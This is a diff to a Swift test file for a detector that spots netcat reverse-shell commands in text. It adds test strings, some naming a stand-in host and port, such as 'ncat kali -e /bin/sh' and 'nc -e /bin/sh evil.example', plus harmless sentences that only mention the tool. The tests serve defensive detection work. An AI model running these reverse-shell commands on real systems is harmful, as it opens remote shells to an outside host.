@@ -80,6 +80,7 @@ private func shells(_ text: String) -> [TextDetection] { text.withView { Reverse
   /// Words about netcat name no host.
   @Test(arguments: [
     "echo \"nc -e /bin/sh is disabled in this build\" >> NOTES", "netcat with -e /bin/sh option",
+    "ncat with -e /bin/sh", "ncat -e /bin/sh here",
     "do not use nc -e /bin/sh here", "we saw nc -e /bin/bash on the host", "nc -c bash doesn't work.",
     "nc -e /bin/sh was blocked by policy 42 times", "ncat --exec /bin/sh option is off", "run nc -e /bin/sh over ssh",
   ])
@@ -87,6 +88,7 @@ private func shells(_ text: String) -> [TextDetection] { text.withView { Reverse
 
   @Test(
     arguments: [
+      ("ncat kali -e /bin/sh", "kali", 31337), ("nc -e /bin/sh to 192.0.2.1 on port 4444", "192.0.2.1", 4444),
       ("nc -e /bin/sh host 4444", "host", 4444), ("nc host 4444 -e sh", "host", 4444),
       ("nc kali https -e sh", "kali", 443),
       ("H=kali; P=4444; nc -e /bin/sh $H $P", "kali", 4444), ("nc -e /bin/sh evil.example", "evil.example", nil),
